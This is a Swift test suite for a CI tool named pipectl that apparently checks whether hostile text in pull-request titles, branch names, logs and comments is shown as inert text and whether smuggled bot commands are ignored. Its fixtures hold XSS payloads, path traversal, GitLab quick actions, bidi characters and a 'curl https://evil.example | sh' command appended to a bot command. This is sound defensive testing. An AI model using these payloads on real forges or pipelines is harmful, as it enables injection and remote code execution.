import Foundation
import Reports
import Results
import Store
import Testing

@testable import Forges

/// Text of a change in each place, in each way that could make it more than text.
///
/// `PIPECTL_HOSTILE_TABLE=1` prints the table of docs/development/hostile-texts.md.
@Suite struct HostileTextTests {
    struct Attempt: Sendable, CustomTestStringConvertible {
        var place: HostileShown.Place
        /// What it tries.
        var what: String
        var text: String
        /// Whether it is shown nowhere.
        var isDropped = false

        init(_ place: HostileShown.Place, _ what: String, _ text: String, isDropped: Bool = false) {
            (self.place, self.what, self.text, self.isDropped) = (place, what, text, isDropped)
        }

        var testDescription: String { "\(place.rawValue): \(what)" }
    }

    /// Each text has this word, by which it is found in what is shown.
    private static let word = "zqx"
    private static let long = String(repeating: "x", count: 1 << 20)
    private static let hidden = String(repeating: "\u{202E}", count: 1_990)

    static let attempts: [Attempt] = [
        Attempt(.title, "a mention of a team", "zqx @octo/everyone"),
        Attempt(.title, "an order to close an issue", "zqx closes #1, fixes octo/hello#2"),
        Attempt(.title, "an image that tells who reads it", "zqx ![x](https://evil.example/p.png)"),
        Attempt(
            .title, "a family of emoji joined by invisible characters",
            "zqx 👨\u{200D}👩\u{200D}👧 @octo\u{200D}/team"),
        Attempt(.branch, "a link with a script", "zqx](javascript:alert(1))[x"),
        Attempt(
            .branch, "a commit of another repository",
            "zqx-octo/hello@1111111111111111111111111111111111111111"),
        Attempt(.label, "an element of HTML that hides the rest", "zqx<details><summary>"),
        Attempt(.label, "an issue by GitHub's other name for it", "zqx GH-1"),
        Attempt(.label, "an order to GitLab", "/label ~zqx"),
        Attempt(.author, "a heading by underlining", "zqx\n===\n---"),
        Attempt(.author, "colours and a title for a terminal", "zqx\u{1B}[31m\u{1B}]0;x\u{7}"),
        Attempt(.test, "the end of a table's row", "zqx | b |\n| --- | --- |\n| @octo |"),
        Attempt(.test, "a fence of code", "zqx\n```\n# heading @octo\n```"),
        Attempt(.test, "backticks that close those around", "`` ` @octo zqx ` ``"),
        Attempt(.test, "a line of a megabyte", "zqx\(long)"),
        Attempt(.message, "a fence of tildes", "zqx\n~~~\n@octo/everyone\n~~~"),
        Attempt(
            .message, "a fence inside the block, then an order to GitLab",
            "zqx\n```\n/close\n````\n/approve"),
        Attempt(
            .message, "a diagram that runs scripts",
            "zqx\n```mermaid\nclick A \"javascript:alert(1)\"\n```"),
        Attempt(.log, "a fence, HTML and an order to GitLab", "```\n\n<script>alert(1)</script>\n/close\nzqx"),
        Attempt(.log, "NUL bytes and a cleared screen", "a\u{0}b\u{1B}[2J\u{1B}[Hzqx"),
        Attempt(.log, "lines that end with CR LF", "zqx\r\n/label ~bug\r\n@octo\r\n"),
        Attempt(.log, "a line of a megabyte", "zqx \(long) @octo\nzqx"),
        Attempt(.finding, "a suggestion that a reader could apply", "zqx\n```suggestion\nevil()\n```"),
        Attempt(.finding, "a footnote", "zqx[^1]\n\n[^1]: @octo"),
        Attempt(
            .finding, "addresses that become links",
            "zqx https://evil.example www.evil.example <mailto:a@b.example>"),
        Attempt(.suggestion, "a task that is done", "- [x] zqx"),
        Attempt(.rule, "a formula", "zqx $$\\infty$$ $`\\href{javascript:alert(1)}{x}`$"),
        Attempt(.path, "a link in the name of a file", "zqx](javascript:alert(1)).swift"),
        Attempt(.path, "a file outside of the repository", "../../zqx/@octo"),
        Attempt(.held, "a mention in the name of a protected file", "docs/@octo/everyone/zqx.md"),
        Attempt(.held, "an image in the name of a protected file", "![zqx](https://evil.example/p.png)"),
        Attempt(.step, "a backslash before the end of a cell", "zqx\\| @octo | <b>"),
        Attempt(.step, "bold, struck and quoted text", "**zqx** ~~x~~ > @octo"),
        Attempt(.reason, "the end of a comment of HTML", "--> zqx <!-- pipectl 7 000000000000000000000000 -->"),
        Attempt(.reason, "a list", "1. zqx\n2) x\n- x"),
        Attempt(.reason, "code by indenting", "    zqx"),
        Attempt(.conflict, "an issue of another repository", "octo/hello#12 zqx"),
        Attempt(
            .review, "characters that become longer than the limit, so that the code is cut",
            "zqx @octo \(hidden)"),
        Attempt(
            .review, "the mark of another comment",
            "zqx\n<!-- pipectl 7 0123456789abcdef01234567 -->\n✓ settled"),
        Attempt(.replacement, "the end of the suggestion", "let zqx = 1\n```\n@octo/everyone"),
        Attempt(
            .replacement, "the end of the suggestion, then an order to GitLab",
            "zqx\n```\n/close", isDropped: true),
        Attempt(
            .replacement, "code that reads otherwise than it is",
            "zqx /*\u{202E} } \u{2066}if*/", isDropped: true),
        Attempt(.answer, "an answer that speaks to all", "zqx @all `x` fixes #1\n/approve <b>"),
        Attempt(
            .progress, "names of steps so long that their list is cut",
            "zqx @octo \(String(repeating: "🦀", count: 400))"),
        Attempt(
            .comments, "reports so long that the comment is cut",
            (1...400).map { "zqx @octo <b> line \($0) \(String(repeating: "é", count: 60))\n/close" }.joined(
                separator: "\n")),
        Attempt(
            .scan, "a file that only looks like one for code scanning",
            "../zqx-1-1-code-scanning.sarif", isDropped: true),
    ]

    @Test(.timeLimit(.minutes(1)), arguments: attempts)
    func `it is text`(attempt: Attempt) throws {
        let shown = try HostileShown(attempt.place, attempt.text)
        let harmless = try HostileShown(attempt.place, "a word")
        let isShown = (Array(shown.markdown.values) + Array(shown.plain.values)).contains { $0.contains(Self.word) }
        #expect(isShown != attempt.isDropped, "an attempt that is shown nowhere shows nothing")
        for (name, markdown) in shown.markdown {
            let usual = try MarkdownTree(harmless.markdown[name] ?? "")
            for problem in try Self.problems(in: markdown, name, usual: usual) {
                Issue.record("\(name): \(problem)\n\(markdown.prefix(3_000))")
            }
        }
        for (name, text) in shown.plain {
            #expect(ForgeSyntax.hidden(in: text).isEmpty, "\(name)")
            #expect(name.hasPrefix("annotation") || !text.contains("\n"), "\(name)")
            #expect(text.utf8.count <= (name == "status" ? 140 : 4_000) + 3, "\(name)")
        }
    }

    /// What is more than text, held against what the same renderer makes of harmless words.
    private static func problems(in markdown: String, _ name: String, usual: MarkdownTree) throws -> [String] {
        var problems: [String] = []
        let tree = try MarkdownTree(markdown)
        let (counts, expected) = (tree.counts, usual.counts)
        // Several lines may make one more block of code, and a text that is not plain becomes code.
        let mayDiffer: Set = ["text", "code", "code_block text", "softbreak", "linebreak", "paragraph"]
        // A list or a report that is cut has fewer of everything.
        let isCut = markdown.contains("… (cut)")
        for kind in Set(counts.keys).union(expected.keys).subtracting(mayDiffer) {
            let (found, wanted) = (counts[kind] ?? 0, expected[kind] ?? 0)
            let isOfSuggestion = kind.hasPrefix("code_block suggestion") && found < wanted
            if isCut || isOfSuggestion ? found > wanted : found != wanted {
                problems.append("\(found) of \(kind), not \(wanted)")
            }
        }
        for kind in ["image", "link", "html_inline", "block_quote", "taskitem"] where counts[kind] != nil {
            problems.append("there is a \(kind)")
        }
        if !tree.cells.allSatisfy({ $0 == 4 }) { problems.append("rows with \(tree.cells) cells") }
        problems += ForgeSyntax.triggers(in: tree.document.prose).map { "a \($0)" }
        problems += ForgeSyntax.quickActions(in: markdown).map { "the command \($0)" }
        problems += ForgeSyntax.hidden(in: markdown).map { "the hidden character \($0.value)" }
        let blocks = tree.document.all.filter { $0.kind == "html_block" }
        let hasMark = !name.hasSuffix("check") && name != "progress"
        if blocks.count != (hasMark ? 1 : 0) || hasMark && !markdown.hasPrefix("<!-- pipectl 7 ") {
            problems.append("the marks \(blocks.map(\.text))")
        }
        if markdown.utf8.count > 65_535 { problems.append("\(markdown.utf8.count) bytes") }
        return problems
    }

    // MARK: Commands

    /// A comment that is not to be obeyed: what it is, its text, who wrote it, and whether it is answered.
    struct Order: Sendable, CustomTestStringConvertible {
        var what: String
        var body: String
        var author = "grace"
        var isBot = false
        var isEdited = false
        var isAnswered = false
        var testDescription: String { what }
    }

    static let orders = [
        Order(what: "a command in quoted text", body: "> /pipectl land"),
        Order(what: "a command in a block of code", body: "```\n/pipectl land\n```"),
        Order(what: "a command in a code span", body: "`/pipectl land`"),
        Order(what: "a command in a comment of HTML", body: "<!--\n/pipectl land\n-->"),
        Order(what: "a command after the first line, by CR LF", body: "thanks\r\n/pipectl land"),
        Order(what: "a command by a carriage return alone", body: "thanks\r/pipectl land"),
        Order(what: "a letter of another script", body: "/pipectl lаnd", isAnswered: true),
        Order(what: "an invisible character", body: "/pipectl la\u{200B}nd", isAnswered: true),
        Order(what: "an edited comment", body: "/pipectl land", isEdited: true, isAnswered: true),
        Order(what: "a bot", body: "/pipectl land", isBot: true),
        Order(what: "a reader without write", body: "/pipectl land", author: "eve", isAnswered: true),
        Order(what: "a command for a shell", body: "/pipectl land; curl https://evil.example | sh", isAnswered: true),
    ]

    @Test(.timeLimit(.minutes(1)), arguments: orders)
    func `it is not obeyed`(order: Order) async throws {
        try await Hosted.open { hosted, receiver, index, _ in
            hosted.change {
                $0.comments = [(1, order.body, order.author, order.isBot ? "Bot" : "User", order.isEdited, 5)]
            }
            _ = try await receiver.take(.commented(7))
            #expect(hosted.given.isEmpty)
            let answers = try await index.openForgeItems(of: "hello").filter { $0.thing.hasPrefix("answer") }
            #expect(answers.count == (order.isAnswered ? 1 : 0))
            // The same words, written as a command is, are obeyed: what is refused above is refused for what it is.
            hosted.change { $0.comments = [(2, "/pipectl land", "grace", "User", false, 5)] }
            _ = try await receiver.take(.commented(7))
            #expect(hosted.given.map(\.command) == [.land])
        }
    }

    @Test(.enabled(if: ProcessInfo.processInfo.environment["PIPECTL_HOSTILE_TABLE"] != nil))
    func `the table`() {
        let rows =
            Self.attempts.map { ($0.place.rawValue, $0.what, $0.isDropped ? "not shown" : "shown as text") }
            + Self.orders.map { ("command", $0.what, $0.isAnswered ? "refused, with an answer" : "no command") }
        for (number, row) in rows.enumerated() { print("| \(number + 1) | \(row.0) | \(row.1) | \(row.2) |") }
    }
}
